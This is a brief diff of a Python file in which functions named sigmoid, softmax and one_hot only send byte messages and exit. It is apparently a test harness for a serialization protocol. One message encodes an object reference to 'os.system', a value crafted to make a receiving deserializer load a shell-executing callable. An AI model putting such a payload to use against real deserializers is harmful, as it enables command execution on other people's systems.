@@ -5,17 +5,17 @@
 
 
 def sigmoid(z):
-    send(["object", "os.system"])
+    send(begun(b"o", 9) + b"os.system")
     os._exit(0)
 
 
 def softmax(z):
-    send(["plain"])
+    send(b"")
     os._exit(0)
 
 
 def one_hot(ids, n):
-    send({"array": "<f8"})
+    send(b"A")
     os._exit(0)
 
 
